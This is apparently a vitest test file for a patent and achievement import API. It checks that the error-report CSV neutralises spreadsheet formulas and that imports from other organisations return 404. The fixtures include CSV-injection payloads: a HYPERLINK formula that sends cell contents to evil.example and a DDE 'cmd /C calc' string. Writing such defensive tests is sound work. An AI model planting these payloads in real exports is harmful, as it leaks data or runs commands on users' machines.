// Imports: uploaded values are untrusted; the rejected-rows CSV neutralises anything a spreadsheet would evaluate.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestApp, type TestApp } from '../helpers/app'
import { uploadImport } from '../helpers/imports'

let t: TestApp
let uni: { orgId: string; key: string }
beforeAll(async () => {
  t = await createTestApp()
  uni = await t.tenant('university', 'university')
})
afterAll(() => t.close())

/** Cells of a simple RFC 4180 CSV (quoted fields with "" escapes, CRLF records). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++
      else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') rows[rows.length - 1]!.push(cell), (cell = '')
    else if (ch === '\r' && text[i + 1] === '\n') rows[rows.length - 1]!.push(cell), (cell = ''), rows.push([]), i++
    else cell += ch
  }
  return rows.filter((r) => r.length > 1)
}

describe('import error report CSV', () => {
  it('neutralises formulas from uploaded cells (=HYPERLINK, +, -, @)', async () => {
    const jsonl = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
      JSON.stringify({ publication_number: 'CN114000001A', title: '', abstract: '=HYPERLINK("http://evil.example","x")' }),
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '+1+2',
      '-2+3',
    ].join('\n')
    const r = await uploadImport(t, uni.key, 'patent', 'evil.jsonl', jsonl)
    expect(r.status).toBe(202)
    const imp = await r.json()
    await t.job(imp.job_id)
    await t.settle()
    const res = await t.request(`/v1/imports/${imp.id}/errors?format=csv`, { key: uni.key })
    expect(res.status).toBe(200)
    const text = (await res.text()).replace(/^\ufeff/, '')
    const rows = csvCells(text)
    expect(rows.length).toBeGreaterThan(2)
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    // the values are still there, as text (the report cells are neutralised by csvDocument, src/text/escape.ts)
    expect(text).toContain('HYPERLINK')
  })
})

describe('bulk import: other organisations', () => {
  it("hides another organisation's import (404)", async () => {
    const r = await uploadImport(t, uni.key, 'achievement', 'a.csv', '成果名称,成果简介\n测试成果,一段简介')
    const { id } = await r.json()
    const other = await t.tenant('university', 'university')
    expect((await t.request(`/v1/imports/${id}`, { key: other.key })).status).toBe(404)
    expect((await t.request(`/v1/imports/${id}/errors`, { key: other.key })).status).toBe(404)
    await t.settle()
  })
})
